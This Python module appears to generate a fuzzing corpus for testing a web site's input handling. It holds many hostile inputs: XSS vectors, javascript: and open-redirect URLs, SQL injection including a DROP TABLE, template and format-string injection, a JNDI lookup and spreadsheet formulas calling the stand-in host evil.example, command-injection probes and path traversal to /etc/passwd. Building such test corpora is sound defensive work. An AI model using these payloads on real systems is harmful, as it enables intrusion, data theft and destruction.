"""Hostile texts, built by rule: `PAYLOADS` holds each of them once, as it is typed.

What a payload would do, if anything of it ran, is call `alert`, `print` or `confirm`,
or ask something of the host EVIL. Pure; imports the standard library only.
"""

import html
import unicodedata
import urllib.parse
from collections.abc import Iterator
from itertools import product

EVIL = "evil.example"
RUN = "alert(1)"

# --- Elements -------------------------------------------------------------------------

# Ways out of the place where a text may stand.
BREAKOUTS = (
    *("", '">', "'>", "-->", "]]>", "</title>", "</textarea>", "</style>"),
    *("</script>", "</option></select>", "</noscript>", "</template>", '" x="'),
)
ELEMENTS = (
    f"<script>{RUN}</script>",
    f"<SCRIPT>{RUN}</SCRIPT>",
    f"<script\n>{RUN}</script >",
    f"<script/x>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</script>",
    f"<script src=//{EVIL}/a.js></script>",
    f"<script type=module>import 'https://{EVIL}/m.js'</script>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script xlink:href='data:text/javascript,{RUN}'></script></svg>",
    f"<svg onload={RUN}>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{RUN}'><text y=20>x</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg onload={RUN}>'/></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>{RUN}</script>'>",
    f"<math><mtext><table><mglyph><style><img src onerror={RUN}></style>",
    f"<math href='javascript:{RUN}'>x</math>",
    f"<style>@import '//{EVIL}/a.css';</style>",
    f"<style>*{{background:url(//{EVIL}/b)}}</style>",
    f"<link rel=stylesheet href=//{EVIL}/c.css>",
    f"<link rel=prefetch href=//{EVIL}/d>",
    f"<base href=//{EVIL}/>",
    f"<meta http-equiv=refresh content='0;url=//{EVIL}/e'>",
    '<meta http-equiv=Content-Security-Policy content="script-src *">',
    f"<iframe src='javascript:{RUN}'></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<object data=//{EVIL}/f></object>",
    f"<embed src=//{EVIL}/g>",
    f"<img src=//{EVIL}/h.png>",
    f"<img src=x onerror={RUN}>",
    f"<img srcset='//{EVIL}/i.png 1x'>",
    f"<video poster=//{EVIL}/j><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<button autofocus onfocus={RUN}>x</button>",
    f"<form action=//{EVIL}/k><input type=submit></form>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<body onload={RUN}>",
    f"<table background=//{EVIL}/l><td>",
    f"<x style='animation-name:x' onanimationstart={RUN}>x</x>",
    f"<template shadowrootmode=open><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<dialog open><form method=dialog><button formaction='javascript:{RUN}'>",
    f"<textarea autofocus onfocus={RUN}>",
    f"<plaintext><img src=x onerror={RUN}>",
    f"<!--><img src=x onerror={RUN}>",
    f"<![CDATA[<img src=x onerror={RUN}>]]>",
    f"<?xml version='1.0'?><?x <img src=x onerror={RUN}>?>",
)
EVENTS = (
    *("onload", "onerror", "onfocus", "onblur", "onclick", "onmouseover", "onwheel"),
    *("onpointerenter", "onanimationend", "ontransitionend", "onscroll", "oncut"),
    *("onbeforeinput", "onresize", "onhashchange", "onpageshow", "onmessage"),
    *(
        "onbeforetoggle",
        "onsecuritypolicyviolation",
        "oncontentvisibilityautostatechange",
    ),
)
HANDLERS = (
    '<p {event}="{run}">x</p>',
    "<img src=x {event}={run}>",
    '" {event}="{run}" x="',
    "' {event}='{run}' x='",
    "` {event}=`{run}` x=`",
    "<svg/{event}={run}//",
    "<a\x0c{event}\n=\n{run}>",
    "<b/{event}&#61;{run}>",
)
BROKEN_TAGS = (
    *(
        "<",
        "</",
        "<!",
        "<!--",
        "<!-->",
        "<!doctype x>",
        "<?",
        "<%",
        "</p",
        "<p",
        "<a b",
    ),
    *("</div></div></main></body></html>", "<table><tr><td></table>", "</form><form>"),
    *(
        "</fieldset></form>",
        "<xmp>",
        "<listing>",
        "<frameset>",
        "<a href='",
        '<a href="',
    ),
    *("<img src=`x`onerror=alert(1)>", "<<script>alert(1)//<</script>", "<a/><b/><c"),
    *("<ins></ins><del>", "<mark>x</mark>", "<select><option>", "<label for=x>"),
)

# --- Addresses ------------------------------------------------------------------------

TARGETS = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"javascript://{EVIL}/%0a{RUN}",
    f"jav&#x09;ascript:{RUN}",
    f"java&Tab;script:{RUN}",
    f"java&NewLine;script:{RUN}",
    f"&#106;avascript:{RUN}",
    f"&#x6A;avascript&colon;{RUN}",
    f"&#0000106avascript:{RUN}",
    f"javascript&#58;{RUN}",
    f"%6Aavascript:{RUN}",
    f"javascript%3A{RUN}",
    f"\\javascript:{RUN}",
    f"java\\script:{RUN}",
    f"\u00a0javascript:{RUN}",
    f"\u2003javascript:{RUN}",
    f"\ufeffjavascript:{RUN}",
    f"java\u200bscript:{RUN}",
    f"ｊavascript:{RUN}",
    f"javaſcript:{RUN}",
    f"vbscript:{RUN}",
    f"livescript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"data:image/svg+xml,<svg onload={RUN}>",
    f"DATA:,{RUN}",
    f"blob:https://{EVIL}/1",
    f"filesystem:https://{EVIL}/1",
    f"view-source:https://{EVIL}/",
    f"file://{EVIL}/etc/passwd",
    f"ftp://{EVIL}/",
    f"ws://{EVIL}/",
    f"intent://{EVIL}/#Intent;end",
    "about:blank",
    f"//{EVIL}/",
    f"///{EVIL}/",
    f"/\\{EVIL}/",
    f"\\\\{EVIL}/",
    f"/%5C{EVIL}/",
    f"/%2F{EVIL}/",
    f"/&#47;{EVIL}/",
    f"/&Tab;/{EVIL}/",
    f"/%09/{EVIL}/",
    f"https:\\\\{EVIL}/",
    f"https:{EVIL}",
    f"https:/{EVIL}",
    f"https://good.example@{EVIL}/",
    f"https://good.example%2F@{EVIL}/",
    "mailto:a@b.example%0Abcc:c@d.example",
    f"?next=//{EVIL}/",
    "../admin/",
    f"{EVIL}/",
)
SYNTAXES = (
    "[words]({target})",
    "[words](<{target}>)",
    '[words]({target} "title")',
    "![words]({target})",
    "<{target}>",
    "[words]: {target}",
    '<a href="{target}">x</a>',
    "<a href={target}>x</a>",
    "{target}",
    "[![words]({target})](/here/)",
    "| [words]({target}) |",
    "[words](term:{target})",
)
MARKS = (
    *("[@", "[@]", "[@a", '[@"><img src=x>]', "[@a](javascript:alert(1))", "[@../x]"),
    *("[x](term:)", '[x](term:"onx=1)', "[x](figure:<b>)", "[x](term:a b)"),
    *('![" onerror="alert(1)](/media/x.png)', '![x](/media/x.png" onerror="alert(1))'),
    *("![x](/static/../admin/logout/)", "![x](/media/%2e%2e/admin/)"),
    *('```" onx="1\n<script>alert(1)</script>', "~~~<b>", "# <b onclick=x>", "`<b>`"),
    *(
        "[x](/ 'a\" onclick=alert(1)')",
        '[x](#" onclick="alert(1))',
        "***[x](</a b>)***",
    ),
    *('[x](http://a" onx=1)', "|a|\n|-|\n|<b>|", "> <script>alert(1)</script>"),
    *("[x](/a#<script>)", "[\u202ex](/a)", "[x](/a?\"'<>)", "1. <b>", "- <!--", "==<"),
)

# --- What other readers than a browser would take for orders --------------------------

TEMPLATES = tuple(
    opened + words + closed
    for opened, closed in (
        *(("{{ ", " }}"), ("{% ", " %}"), ("{# ", " #}"), ("${", "}"), ("#{", "}")),
        *(("<%= ", " %>"), ("{{{", "}}}"), ("[[${", "}]]"), ("%{", "}"), ("*{", "}")),
    )
    for words in (
        *(
            "7*7",
            "request",
            "settings.SECRET_KEY",
            "debug",
            "load static",
            "include 'x'",
        ),
        *("''.__class__.__mro__[1].__subclasses__()", "csrf_token", "self"),
    )
)
FORMATS = (
    *("%s" * 20, "%n%n%n", "%(x)s", "%(secret)d", "%", "%%", "%d%x%p", "%99999999d"),
    *("{0}", "{}", "{x}", "{0.__class__.__init__.__globals__}", "{:>99999999}", "{!r}"),
    *("{", "}", "{{", "}}", "${jndi:ldap://evil.example/a}", "$(id)", "`id`", "; id"),
    *(
        "| id",
        "&& id",
        "../../../../etc/passwd",
        "..\\..\\win.ini",
        "C:\\nul",
        "%2e%2e/",
    ),
    *(
        "*)(uid=*))(|(uid=*",
        "<!ENTITY x SYSTEM 'file:///etc/passwd'>",
        "&x;",
        "!!python/x",
    ),
)
SQL = tuple(
    quote + words
    for quote, words in product(
        ("'", '"', "`", "\\'", "%27", "')", '")', "1"),
        (
            *(
                " OR 1=1 --",
                "; DROP TABLE articles_article; --",
                " UNION SELECT NULL --",
            ),
            *(" AND SLEEP(9) --", "||(SELECT 1)||", " /* ", "; ATTACH 'x' AS y; --"),
        ),
    )
)
FULL_TEXT = (
    *(
        '"',
        "NEAR(",
        "a NEAR b",
        "*",
        "^a",
        "a AND",
        "OR",
        "NOT",
        "title:a",
        "-a",
        "a*b",
    ),
    *("a:*", "a & b", "a | !b", "<->", "\\", "':*", "((", "))", "'''", "a''b"),
)
LINES = tuple(
    end + words
    for end, words in product(
        ("\r\n", "\n", "\r", "%0d%0a", "\\r\\n", "\u2028", "\u2029"),
        (
            *("Set-Cookie: a=b", f"Location: //{EVIL}/", "Bcc: a@b.example"),
            *("\r\n<script>alert(1)</script>", "INFO forged line", "."),
        ),
    )
)
JSON = tuple(
    before + words
    for before, words in product(
        ('"', "'", "\\", '\\"', "\\u0022", "</script>", "\u2028", "*/", "//"),
        (
            *("}];alert(1);//", ',"admin":true,"x":"', '"}</script><script>alert(1)'),
            *("-alert(1)-", "\\u003cscript\\u003e", "__proto__", "\\", "<!--<script>"),
        ),
    )
)
FORMULAS = tuple(
    start + words
    for start, words in product(
        ("=", "+", "-", "@", "\t=", "＝", ";=", ',"='),
        (
            *("1+1", "cmd|' /C calc'!A0", f'HYPERLINK("https://{EVIL}/","x")'),
            *(f'IMPORTXML("https://{EVIL}/","/")', "SUM(1)*cmd|'x'!A", "DDE()"),
        ),
    )
)

# --- Characters -----------------------------------------------------------------------

# Characters that look like nothing, or like something else; some are refused.
ODD = (
    *("\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u034f", "\u180e"),
    *("\u3164", "\u2800", "\u00a0", "\u2003", "\u3000", "\u1680", "\u2028", "\u2029"),
    *("\u0301" * 40, "\u0e49" * 40, "😀\u200d😀", "\U000e0041", "\ufdfd", "\U0001f1e6"),
    *("İ", "ı", "ß", "ſ", "K", "ﬁ", "ǆ", "Ⅷ", "ａ", "﹤script﹥", "＜script＞", "‹b›"),
    *("\ufffe", "\uffff", "\U0001fffe", "\u0378", "ʼ", "＇", "″", "ﾞ", "\ufe0f"),
)
# Characters that every text box refuses, because nobody sees them.
UNSEEN = tuple(
    chr(code)
    for code in (
        *(c for c in range(0x20) if c not in (0x09, 0x0A, 0x0D)),
        *range(0x7F, 0xA0),
        *(0x200E, 0x200F, 0x061C, *range(0x202A, 0x202F), *range(0x2066, 0x206A)),
        *(0xE000, 0xF8FF, 0xF0000, 0x10FFFD),
    )
)
# Code points that no encoding carries: they arrive as broken bytes.
SURROGATES = ("\ud800", "\udfff", "\udc00\ud800", "\ud83d")
AROUND = (
    "{0}",
    "a{0}b",
    "{0}<script>alert(1)</script>",
    "<scr{0}ipt>alert(1)</script>",
)
ENCODED = (
    *(
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "\\x3cscript\\x3e",
        "\\u003cb\\u003e",
    ),
    *(
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&amp;lt;b&amp;gt;",
        "&#60;b&#62;",
        "&lt",
    ),
    *("&#x3c;b&#x3e;", "&#0;", "&#x80;", "&#xd800;", "&#x110000;", "&#99999999999;"),
    *(
        "%3Cscript%3E",
        "%253Cscript%253E",
        "%u003Cscript%u003E",
        "Ã¼",
        "Â»",
        "\\0",
        "%00",
    ),
    *(
        "&nosuch;",
        "&notit;",
        "&lt;img src=x onerror=alert(1)&gt;",
        "¼script¾alert(1)¼/",
    ),
)
LONG = tuple(
    letter * 150 for letter in ("W", "ﷺ", "-", "_", "/", ".", "&", "א", "0", "漢")
)


def _built() -> Iterator[str]:
    yield from map("".join, product(BREAKOUTS, ELEMENTS))
    for shape, event in product(HANDLERS, EVENTS):
        yield shape.format(event=event, run=RUN)
    for shape, target in product(SYNTAXES, TARGETS):
        yield shape.format(target=target)
    for element in ELEMENTS:
        yield html.escape(element)
        yield urllib.parse.quote(element)
        yield "".join(f"&#{ord(letter)};" for letter in element[:20])
    for shape, character in product(AROUND, (*ODD, *UNSEEN, *SURROGATES)):
        yield shape.format(character)
    for family in (BROKEN_TAGS, MARKS, TEMPLATES, FORMATS, SQL, FULL_TEXT, LINES):
        yield from family
    for family in (JSON, FORMULAS, ENCODED, LONG):
        yield from family


def has_surrogate(text: str) -> bool:
    """Whether no encoding carries it."""
    return any("\ud800" <= character <= "\udfff" for character in text)


def is_refused(text: str) -> bool:
    """Whether every text box of the site refuses it; said without the site's code."""
    return any(
        unicodedata.category(character) in {"Cc", "Cf", "Cn", "Co", "Cs"}
        for character in text
        if character not in "\t\n\r\u200c\u200d"
    )


PAYLOADS = tuple(dict.fromkeys(_built()))
REFUSED = tuple(filter(is_refused, PAYLOADS))
STORED = tuple(payload for payload in PAYLOADS if not is_refused(payload))
# A database may hold these from before a rule was made, or from a fixture.
OLD = tuple(p for p in PAYLOADS if "\0" not in p and not has_surrogate(p))


def packed(payloads: tuple[str, ...], size: int, joint: str = "\n") -> list[str]:
    """Texts of at most `size` characters that hold every payload that fits in one."""
    texts, text = [], ""
    for payload in payloads:
        longer = f"{text}{joint}{payload}" if text else payload
        if len(longer) <= size:
            text = longer
        elif len(payload) <= size:
            texts.append(text)
            text = payload
    return [*texts, text] if text else texts
